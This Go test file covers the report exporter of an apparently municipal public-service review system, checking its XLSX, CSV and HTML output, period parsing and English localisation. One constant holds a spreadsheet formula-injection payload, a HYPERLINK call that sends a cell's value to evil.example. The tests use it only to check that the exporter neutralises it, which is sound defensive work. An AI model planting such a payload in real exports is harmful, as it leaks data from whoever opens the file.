package report_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"html"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/haocha/haocha/internal/calendar"
	"github.com/haocha/haocha/internal/i18n"
	"github.com/haocha/haocha/internal/index"
	"github.com/haocha/haocha/internal/report"
	"github.com/haocha/haocha/internal/review"
	"github.com/haocha/haocha/internal/workorder"
)

// hostile is a unit name a spreadsheet would run as a formula if it were
// written as one.
const hostile = `=HYPERLINK("http://evil.example/?"&A1,"点击")`

// fakeSource is a city of three districts and one agency.
type fakeSource struct{}

func stars(n1, n2, n3, n4, n5 int64) index.Counts {
	c := index.Counts{Stars: [5]int64{n1, n2, n3, n4, n5}}
	c.N = n1 + n2 + n3 + n4 + n5
	c.ActiveStars = c.Stars
	return c
}

var counts = map[index.Scope]map[string]index.Counts{
	index.District: {
		"310101": stars(0, 0, 0, 10, 30), // n 40: the best
		"310104": stars(5, 5, 5, 10, 15), // n 40: the worst
		"310105": stars(0, 0, 0, 0, 3),   // n 3: 样本不足
	},
	index.Agency: {"SHGA": stars(1, 1, 3, 10, 20)}, // n 35
}

func (fakeSource) DefinitionFor(context.Context, time.Time) (index.Definition, error) {
	return index.V1(), nil
}

func (fakeSource) IndexCounts(_ context.Context, sc index.Scope, _, _ time.Time) (map[string]index.Counts, error) {
	if sc == index.City {
		var city index.Counts
		for _, m := range counts {
			for _, c := range m {
				city.Add(c)
			}
		}
		city.Orders = index.OrderCounts{WithDue: 4, RepliedOnTime: 3, Rectified: 2, SatisfiedFirst: 1, UndispatchedLate: 1}
		return map[string]index.Counts{"city": city}, nil
	}
	return counts[sc], nil
}

func (f fakeSource) IndexCountsAt(ctx context.Context, sc index.Scope, from, to, _ time.Time) (map[string]index.Counts, index.Counts, error) {
	city, _ := f.IndexCounts(ctx, index.City, from, to)
	out, err := f.IndexCounts(ctx, sc, from, to)
	return out, city["city"], err
}

func (fakeSource) ActiveDimensionSet(context.Context) (review.DimensionSet, error) {
	return review.DimensionSet{}, nil
}

func (fakeSource) ScopeMembersIn(context.Context, index.Scope, string) (map[string]bool, error) {
	return nil, nil
}

func (fakeSource) ScopeNamesEN(context.Context, index.Scope) (map[string]string, error) {
	return nil, nil
}

func (fakeSource) ScopeNames(_ context.Context, sc index.Scope) (map[string]string, error) {
	names := map[string]string{"310101": "黄浦区", "310104": "徐汇区", "310105": "长宁区", "310106": "静安区", "SHGA": hostile}
	out := map[string]string{}
	for code, name := range names {
		if sc == index.Unit || (sc == index.Agency) == (code == "SHGA") {
			out[code] = name
		}
	}
	return out, nil
}

func (fakeSource) PeriodOrders(context.Context, time.Time, time.Time) ([]workorder.Row, error) {
	at := time.Date(2026, 7, 6, 10, 0, 0, 0, calendar.Zone)
	return []workorder.Row{
		{Order: &workorder.Order{Number: "GD1", Unit: "SHGA", State: workorder.Closed, Round: 2, CreatedAt: at, ClosedAt: at.Add(72 * time.Hour),
			Reply: workorder.Reply{Findings: "窗口人员解释不清", Rectification: "-培训 +1 次"}}, ItemName: "户籍迁入", Stars: 1},
		{Order: &workorder.Order{Number: "GD2", Unit: "310104", State: workorder.Dispatched, Overdue: true, CreatedAt: at}, ItemName: "居住证"},
		{Order: &workorder.Order{Number: "GD3", Unit: "310101", State: workorder.Supervised, SupervisedAt: at, CreatedAt: at}, ItemName: "营业执照"},
	}, nil
}

func build(t *testing.T) *report.Report {
	t.Helper()
	p, err := report.ParsePeriod("2026-07")
	if err != nil {
		t.Fatal(err)
	}
	r, err := report.Build(context.Background(), fakeSource{}, nil, p, time.Date(2026, 8, 3, 9, 0, 0, 0, calendar.Zone))
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func TestReportLists(t *testing.T) {
	r := build(t)
	d := r.Scopes[0]
	if d.Scope != index.District || len(d.Ranked) != 2 || d.Red[0].Code != "310101" || d.Black[0].Code != "310104" {
		t.Fatalf("districts: ranked %v, red %v, black %v", codes(d.Ranked), codes(d.Red), codes(d.Black))
	}
	// 长宁 has 3 reviews and 静安 none: both listed apart, unranked.
	if got := codes(d.Insufficient); strings.Join(got, ",") != "310105,310106" {
		t.Errorf("insufficient sample: %v, want 310105,310106", got)
	}
	if len(r.Overdue) != 1 || r.Overdue[0].Number != "GD2" || len(r.Escalated) != 1 || r.Escalated[0].Number != "GD3" {
		t.Errorf("overdue %+v, escalated %+v", r.Overdue, r.Escalated)
	}
	if len(r.Cases) != 1 || r.Cases[0].Rectification != "-培训 +1 次" || r.Cases[0].Unit != hostile {
		t.Errorf("cases %+v", r.Cases)
	}
	if r.AlertsRecorded {
		t.Error("a report built without an alerts store claims alerts were recorded")
	}
}

func codes(es []index.Entry) []string {
	var out []string
	for _, e := range es {
		out = append(out, e.Code)
	}
	return out
}

// TestXLSXCells opens the workbook with excelize: one sheet per section,
// the header frozen, numbers as numbers, rates as percentages, and hostile
// text as text.
func TestXLSXCells(t *testing.T) {
	var buf bytes.Buffer
	if err := build(t).Write(&buf, report.XLSX, i18n.ZH); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	want := []string{"全市概况", "各区排名", "市级部门排名", "12345热线", "红黑榜", "集中差评预警", "超期工单", "督办工单", "典型案例"}
	if got := f.GetSheetList(); strings.Join(got, ",") != strings.Join(want, ",") {
		t.Fatalf("sheets %v, want %v", got, want)
	}
	const sheet = "各区排名"
	panes, err := f.GetPanes(sheet)
	if err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("%s: panes %+v (%v), want the first row frozen", sheet, panes, err)
	}
	head, _ := f.GetRows(sheet)
	col := func(name string) string {
		for i, h := range head[0] {
			if h == name {
				c, _ := excelize.CoordinatesToCellName(i+1, 2)
				return c
			}
		}
		t.Fatalf("no column %s in %v", name, head[0])
		return ""
	}
	for _, tc := range []struct {
		column string
		want   string
		numFmt int
	}{
		{"评价指数", "", 2},
		{"样本量(n)", "40", 1},
		{"好评率", "1", 10}, // 40 of 40 are 4–5 stars
		{"差评率", "0", 10},
	} {
		cell := col(tc.column)
		typ, _ := f.GetCellType(sheet, cell)
		if typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
			t.Errorf("%s %s: cell type %v, want a number", tc.column, cell, typ)
		}
		raw, _ := f.GetCellValue(sheet, cell, excelize.Options{RawCellValue: true})
		if tc.want != "" && raw != tc.want {
			t.Errorf("%s %s: raw value %q, want %q", tc.column, cell, raw, tc.want)
		}
		style, _ := f.GetCellStyle(sheet, cell)
		st, err := f.GetStyle(style)
		if err != nil || st.NumFmt != tc.numFmt {
			t.Errorf("%s %s: number format %v (%v), want %d", tc.column, cell, st, err, tc.numFmt)
		}
	}
	// The units answer for what they did after dispatch: the dispatch
	// delay is on the 12345 centre's sheet, not theirs (issue 18).
	if slices.Contains(head[0], "超时未派单") {
		t.Errorf("%s has the centre's column 超时未派单: %v", sheet, head[0])
	}
	centre, _ := f.GetRows("12345热线")
	if !slices.ContainsFunc(centre, func(r []string) bool { return len(r) == 2 && r[0] == "超时未派单" && r[1] == "1" }) {
		t.Errorf("the centre's sheet %v, want 超时未派单 1", centre)
	}
	shown, _ := f.GetCellValue(sheet, col("好评率"))
	if shown != "100.00%" {
		t.Errorf("好评率 shows %q, want 100.00%%", shown)
	}
	for _, where := range []struct{ sheet, text string }{{"市级部门排名", hostile}, {"典型案例", "-培训 +1 次"}} {
		found := false
		rows, _ := f.GetRows(where.sheet)
		for r, row := range rows {
			for c, v := range row {
				if v != where.text {
					continue
				}
				found = true
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if formula, _ := f.GetCellFormula(where.sheet, cell); formula != "" {
					t.Errorf("%s %s is the formula %q", where.sheet, cell, formula)
				}
				if typ, _ := f.GetCellType(where.sheet, cell); typ == excelize.CellTypeFormula || typ == excelize.CellTypeNumber {
					t.Errorf("%s %s: type %v, want text", where.sheet, cell, typ)
				}
			}
		}
		if !found {
			t.Errorf("%s: %q not written as it is", where.sheet, where.text)
		}
	}
}

func TestCSVDefusesFormulas(t *testing.T) {
	var buf bytes.Buffer
	if err := build(t).Write(&buf, report.CSV, i18n.ZH); err != nil {
		t.Fatal(err)
	}
	body, bom := bytes.CutPrefix(buf.Bytes(), []byte("\ufeff"))
	if !bom {
		t.Error("the CSV has no UTF-8 byte-order mark: Excel on a Chinese desktop would read it as GBK")
	}
	recs, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	head := strings.Join(recs[0][:8], ",")
	if head != "统计期,范围,排名,名称,代码,评价指数,样本量(n),样本不足" {
		t.Errorf("header %s, want the titles in Chinese", head)
	}
	if recs[1][1] != "全市" {
		t.Errorf("scope %q, want 全市", recs[1][1])
	}
	// city, 4 districts, 1 agency, the 12345 centre
	if len(recs) != 1+1+4+1+1 {
		t.Fatalf("%d records, want 8", len(recs))
	}
	agency := recs[len(recs)-2]
	if agency[3] != "'"+hostile {
		t.Errorf("agency name %q, want it after an apostrophe", agency[3])
	}
	if agency[6] != "35" {
		t.Errorf("agency n %q, want 35", agency[6])
	}
	for _, s := range []string{"=1", "+1", "-1", "@x", "\tx", "\rx"} {
		if got := report.Defuse(s); got != "'"+s {
			t.Errorf("Defuse(%q) = %q", s, got)
		}
	}
	if got := report.Defuse("黄浦区"); got != "黄浦区" {
		t.Errorf("Defuse changed plain text: %q", got)
	}
}

// TestAlertStatesInChinese: the 通报 names an alert's state in Chinese,
// not as the program stores it ("open").
func TestAlertStatesInChinese(t *testing.T) {
	r := build(t)
	r.AlertsRecorded = true
	r.Alerts = []report.Alert{{Kind: "unit_bad_rate", Group: "黄浦区", Opened: r.From, Reviews: 5, State: "open"},
		{Kind: "unit_bad_rate", Group: "静安区", Opened: r.From, Reviews: 6, State: "resolved"}}
	var buf bytes.Buffer
	if err := r.Write(&buf, report.HTML, i18n.ZH); err != nil {
		t.Fatal(err)
	}
	h := buf.String()
	for _, want := range []string{"待处理", "已解决"} {
		if !strings.Contains(h, want) {
			t.Errorf("print view lacks the state %q", want)
		}
	}
	for _, raw := range []string{">open<", ">resolved<"} {
		if strings.Contains(h, raw) {
			t.Errorf("print view shows the stored state %s", raw)
		}
	}
}

func TestPrintView(t *testing.T) {
	var buf bytes.Buffer
	if err := build(t).Write(&buf, report.HTML, i18n.ZH); err != nil {
		t.Fatal(err)
	}
	h := buf.String()
	for _, want := range []string{"@page { size: A4", "2026年7月通报", "尚无预警记录", "黄浦区", "100.0%", "样本不足"} {
		if !strings.Contains(h, want) {
			t.Errorf("print view lacks %q", want)
		}
	}
	if strings.Contains(h, hostile) {
		t.Error("the hostile name is in the page unescaped")
	}
}

func TestPeriods(t *testing.T) {
	cal := calendar.New(calendar.Shipped())
	for _, tc := range []struct {
		in, from, to, issue string
	}{
		{"2026-07", "2026-07-01", "2026-07-31", "2026-08-03"}, // 1 Aug is a Saturday
		{"2026-Q3", "2026-07-01", "2026-09-30", "2026-10-08"}, // after the National Day holidays
		{"2026-09", "2026-09-01", "2026-09-30", "2026-10-08"},
		{"2026", "2026-01-01", "2026-12-31", "2027-01-01"},
	} {
		p, err := report.ParsePeriod(tc.in)
		if err != nil {
			t.Fatal(err)
		}
		from, to := p.Days()
		issue := p.IssueDay(cal)
		if p.String() != tc.in || from.Format(time.DateOnly) != tc.from || to.Format(time.DateOnly) != tc.to {
			t.Errorf("%s: %s %s to %s", tc.in, p, from, to)
		}
		if p.Kind != report.Year && issue.Format(time.DateOnly) != tc.issue {
			t.Errorf("%s: issued on %s, want %s", tc.in, issue.Format(time.DateOnly), tc.issue)
		}
	}
	for _, bad := range []string{"", "2026-13", "2026-Q5", "26-07", "2026-7", "2026/07"} {
		if _, err := report.ParsePeriod(bad); err == nil {
			t.Errorf("ParsePeriod(%q) took it", bad)
		}
	}
}

// The CSV of every indicator has the transaction figures too (issue 18):
// the reviews linked to a transaction, the transactions, 未评率 and each
// channel's participation.
func TestCSVHasEveryIndicator(t *testing.T) {
	var buf bytes.Buffer
	if err := build(t).Write(&buf, report.CSV, i18n.ZH); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, head := range []string{"关联办件评价", "办件量", "未评率", "参评率(窗口扫码)", "参评率(随申办)", "超时未派单"} {
		if !slices.Contains(recs[0], head) {
			t.Errorf("no column %s in %v", head, recs[0])
		}
	}
	// undispatched_late is the 12345 centre's, on its row alone (issue 18).
	late := slices.Index(recs[0], "超时未派单")
	for _, r := range recs[1:] {
		want := ""
		if r[1] == "12345热线" {
			want = "1"
		}
		if r[late] != want {
			t.Errorf("%s %s: 超时未派单 %q, want %q", r[1], r[3], r[late], want)
		}
	}
	for _, r := range recs {
		if len(r) != len(recs[0]) {
			t.Fatalf("a row of %d fields under a header of %d", len(r), len(recs[0]))
		}
	}
}

// TestEnglishReport: the report in English has every phrase in English
// (Han only in the names that have no English and in what staff wrote),
// English sheet names, and the same figures as the Chinese, cell for cell.
func TestEnglishReport(t *testing.T) {
	r := build(t)
	r.AlertsRecorded = true
	r.Alerts = []report.Alert{{Kind: "unit_item", Group: "黄浦区 · 户籍迁入", GroupEN: "Huangpu · Household registration", Opened: r.From, Reviews: 5, State: "open"}}
	// The names the fake city has in Chinese only, and what staff wrote.
	names := []string{"黄浦区", "徐汇区", "长宁区", "静安区", "户籍迁入", "居住证", "营业执照", "窗口人员解释不清", "-培训 +1 次", "点击"}
	han := regexp.MustCompile(`\p{Han}+`)
	for _, f := range []report.Format{report.HTML, report.CSV} {
		var buf bytes.Buffer
		if err := r.Write(&buf, f, i18n.EN); err != nil {
			t.Fatal(err)
		}
		text := html.UnescapeString(buf.String())
		for _, n := range names {
			text = strings.ReplaceAll(text, n, "")
		}
		if found := han.FindAllString(text, -1); len(found) > 0 {
			t.Errorf("%s in English shows Chinese: %v", f, found)
		}
	}
	var buf bytes.Buffer
	if err := r.Write(&buf, report.HTML, i18n.EN); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`<html lang="en">`, "report for July 2026", "1. City overview", "Huangpu · Household registration", "Open"} {
		if !strings.Contains(buf.String(), want) {
			t.Errorf("the English print view lacks %q", want)
		}
	}
	sheets := func(l i18n.Lang) (*excelize.File, []string) {
		var buf bytes.Buffer
		if err := r.Write(&buf, report.XLSX, l); err != nil {
			t.Fatal(err)
		}
		f, err := excelize.OpenReader(&buf)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { f.Close() })
		return f, f.GetSheetList()
	}
	zh, zhSheets := sheets(i18n.ZH)
	en, enSheets := sheets(i18n.EN)
	if len(zhSheets) != len(enSheets) {
		t.Fatalf("sheets: %v in Chinese, %v in English", zhSheets, enSheets)
	}
	for i := range zhSheets {
		if han.MatchString(enSheets[i]) {
			t.Errorf("English sheet %q", enSheets[i])
		}
		zr, _ := zh.GetRows(zhSheets[i])
		er, _ := en.GetRows(enSheets[i])
		if len(zr) != len(er) {
			t.Errorf("%s: %d rows in Chinese, %d in English", enSheets[i], len(zr), len(er))
			continue
		}
		for y := 1; y < len(zr); y++ {
			for x := range zr[y] {
				if _, err := strconv.ParseFloat(zr[y][x], 64); err == nil && (x >= len(er[y]) || er[y][x] != zr[y][x]) {
					t.Errorf("%s row %d column %d: %q in Chinese, not in English", enSheets[i], y, x, zr[y][x])
				}
			}
		}
	}
}
